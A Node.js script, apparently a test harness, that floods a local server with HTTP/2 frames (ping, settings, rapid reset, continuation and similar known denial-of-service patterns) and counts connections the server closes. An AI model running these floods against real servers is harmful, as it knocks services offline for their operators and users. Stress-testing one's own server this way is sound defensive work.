// Sends frames of one kind over HTTP/2, as fast as they are taken, on connections that are opened anew when they end.
//
//   node frame-floods.mjs PORT KIND CONNECTIONS FROM HOLD_MS
import { connect } from 'node:tls';

const [port, kind = '', connections, from = '', holdMs] = process.argv.slice(2);
const report = { connected: 0, endedByServer: 0, sentBytes: 0 };
const until = performance.now() + Number(holdMs);

const frame = (type, flags, stream, payload = Buffer.alloc(0)) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
const number = (value) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
// GET / over https, of the authority "n".
const get = Buffer.from([0x82, 0x84, 0x87, 0x41, 0x01, 0x6e]);
const many = (count, make) => Buffer.concat(Array.from({ length: count }, (_, n) => make(n)));
let stream = 1;
const next = () => (stream += 2);
const floods = {
  ping: () => many(1_000, () => frame(6, 0, 0, Buffer.alloc(8))),
  settings: () => many(1_000, () => frame(4, 0, 0, Buffer.concat([Buffer.from([0, 4]), number(65_535)]))),
  window: () => many(1_000, () => frame(8, 0, 0, number(1))),
  priority: () => many(1_000, () => frame(2, 0, 1, Buffer.concat([number(0), Buffer.from([1])]))),
  reset: () =>
    many(500, () => {
      const id = next();
      return Buffer.concat([frame(1, 5, id, get), frame(3, 0, id, number(8))]);
    }),
  continuation: () => Buffer.concat([frame(1, 1, next(), get), many(1_000, () => frame(9, 0, stream))]),
  // Each begins headers and never ends them: a further one is not allowed before that.
  halfHeaders: () => many(100, () => frame(1, 0, next(), get)),
  requests: () => many(200, () => frame(1, 5, next(), get)),
};
const make = floods[kind];

function flood() {
  return new Promise((resolve) => {
    const socket = connect({
      host: '127.0.0.1',
      port: Number(port),
      localAddress: from,
      ALPNProtocols: ['h2'],
      rejectUnauthorized: false,
    });
    const send = () => {
      if (socket.destroyed || performance.now() > until) {
        socket.destroy();
        return;
      }
      const words = make();
      report.sentBytes += words.length;
      // Others of this process get their turn in between.
      if (socket.write(words)) setImmediate(send);
      else socket.once('drain', send);
    };
    socket.on('secureConnect', () => {
      report.connected++;
      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]));
      send();
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      if (performance.now() < until) report.endedByServer++;
      resolve();
    });
    socket.resume();
    setTimeout(() => socket.destroy(), until - performance.now()).unref();
  });
}

const timer = setTimeout(() => {}, Number(holdMs) + 1_000);
await Promise.all(
  Array.from({ length: Number(connections) }, async () => {
    while (performance.now() < until) await flood();
  }),
);
clearTimeout(timer);
process.stdout.write(`${JSON.stringify(report)}\n`, () => process.exit(0));
